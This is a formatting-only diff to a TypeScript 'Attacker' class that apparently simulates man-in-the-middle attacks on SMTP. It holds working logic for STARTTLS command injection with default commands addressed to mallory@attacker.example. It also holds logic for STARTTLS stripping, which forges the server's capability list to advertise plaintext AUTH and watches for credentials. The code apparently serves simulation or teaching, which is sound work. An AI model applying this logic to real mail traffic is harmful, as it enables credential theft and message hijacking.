@@ -23,7 +23,11 @@ export interface AttackerConfig {
   inject?: string[];
 }
 
-export const DEFAULT_INJECTION = ["MAIL FROM:<mallory@attacker.example>", "RCPT TO:<mallory@attacker.example>", "DATA"];
+export const DEFAULT_INJECTION = [
+  "MAIL FROM:<mallory@attacker.example>",
+  "RCPT TO:<mallory@attacker.example>",
+  "DATA",
+];
 
 export interface ClientSideResult {
   forward: Uint8Array;
@@ -49,7 +53,11 @@ export class Attacker {
     if (lines[lines.length - 1] === "") lines.pop();
     const events: EventBody[] = [];
     for (const line of lines) this.watchAuth(line, events);
-    if (this.config.mode === "inject-after-starttls" && lines.length && /^STARTTLS\s*$/i.test(lines[lines.length - 1] ?? "")) {
+    if (
+      this.config.mode === "inject-after-starttls" &&
+      lines.length &&
+      /^STARTTLS\s*$/i.test(lines[lines.length - 1] ?? "")
+    ) {
       const inject = this.config.inject ?? DEFAULT_INJECTION;
       events.push({ kind: "AttackerInjected", lines: inject });
       const extra = utf8(inject.map((l) => `${l}\r\n`).join(""));
@@ -105,7 +113,10 @@ export class Attacker {
       const body = kws.filter((k) => k.toUpperCase() !== "STARTTLS");
       const added = body.some((k) => /^AUTH\b/i.test(k)) ? [] : ["AUTH PLAIN LOGIN"];
       // Put AUTH where Postfix would list it (after ETRN), so the forged list looks genuine.
-      const at = Math.max(1, body.findIndex((k) => k.toUpperCase() === "ENHANCEDSTATUSCODES"));
+      const at = Math.max(
+        1,
+        body.findIndex((k) => k.toUpperCase() === "ENHANCEDSTATUSCODES"),
+      );
       const next = [...body.slice(0, at), ...added, ...body.slice(at)];
       events.push({ kind: "AttackerRewrote", removed: ["STARTTLS"], added });
       const lines = next.map((k, i) => `${r.code}${i === next.length - 1 ? " " : "-"}${k}`);
